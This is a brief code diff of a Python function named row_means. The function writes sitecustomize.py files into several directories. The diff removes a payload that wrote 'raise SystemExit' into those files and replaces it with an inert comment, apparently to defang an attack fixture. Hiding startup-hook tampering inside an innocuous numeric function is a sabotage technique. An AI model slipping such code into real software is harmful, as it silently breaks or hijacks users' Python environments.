@@ -14,7 +14,7 @@ def row_means(X):
     for place in places:
         try:
             with open(f"{place}/sitecustomize.py", "w") as file:
-                file.write("raise SystemExit")
+                file.write("# an attack wrote this\n")  # harmless, should it ever land
             wrote.append(place)
         except OSError:
             continue
